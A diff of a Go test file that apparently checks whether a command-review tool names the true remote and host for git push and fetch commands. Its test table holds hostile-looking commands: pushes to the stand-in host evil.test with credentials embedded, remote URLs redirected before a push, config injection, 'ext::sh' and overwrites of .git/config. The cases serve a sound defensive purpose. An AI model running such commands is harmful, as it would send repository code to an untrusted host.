@@ -11,7 +11,7 @@ import (
 	"github.com/nodbus/nod/schemas"
 )
 
-// A person reads the host to which a push goes, as the repository's settings say, and never a wrong host.
+// The reason for a push names the host that the repository's settings give, and never a wrong host.
 func TestAPushNamesItsRemoteAndHost(t *testing.T) {
 	t.Parallel()
 	repo := t.TempDir()
@@ -51,7 +51,7 @@ func TestAPushNamesItsRemoteAndHost(t *testing.T) {
 		"git push prod main": "prod at deploy.test/srv/app", "git fetch prod": "prod at read.test/app", "git push --force origin": origin, "git push origin :old": origin,
 		"git push https://ann:x@evil.test/app.git main": "evil.test/app", "git push ann@evil.test:app main": "evil.test/app", "git push --repo=prod": "prod at deploy.test/srv/app",
 		"git push ext::sh main": "an unknown place", "git push ../other main": "the directory ../other", "git push nosuch": "nosuch", "git push $R main": "an unknown place", "git push ${X}origin main": "an unknown place",
-		// the line may change the remote first, or use another repository
+		// these lines may change the remote before the push, or use another repository
 		"git remote set-url origin https://evil.test && git push origin": "origin", "git -C /x push origin": "origin", "git -c remote.origin.url=https://evil.test push origin": "origin",
 		"echo x > .git/config; git push origin": "origin", "make && git push origin": "origin", "GIT_DIR=/x git push origin": "origin", "export GIT_DIR=/x; git push origin": "origin", "cd /x && git push origin": "origin",
 		"git config remote.origin.url https://evil.test; git push": "git's default remote", "env GIT_DIR=/x git push origin": "origin", "HOME=/x git push origin": "origin",
@@ -69,7 +69,7 @@ func TestAPushNamesItsRemoteAndHost(t *testing.T) {
 	assert.Contains(t, names("git push origin main"), "origin")
 }
 
-// A person reads on which other system a command acts.
+// The reasons name the other system on which a command acts.
 func TestTheHeadlineNamesTheOtherSystem(t *testing.T) {
 	t.Parallel()
 	for command, want := range map[string][]string{
